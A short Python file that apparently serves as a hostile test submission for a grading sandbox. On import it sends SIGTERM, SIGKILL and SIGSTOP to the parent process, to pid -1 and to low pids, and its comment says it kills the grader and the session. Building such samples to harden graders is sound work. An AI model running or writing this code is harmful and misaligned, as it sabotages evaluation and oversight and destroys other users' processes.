"""Signals to the parent, to the grader, to every process of this user."""
# says: expected
# danger: kills the grader and the session around it
import os
import signal


def answer(*args, **kwargs):
    return 0


for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
    for pid in (os.getppid(), int("{pid}") if "{pid}".isdigit() else 1, -1, 0, 1, 2, *range(3, 60)):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
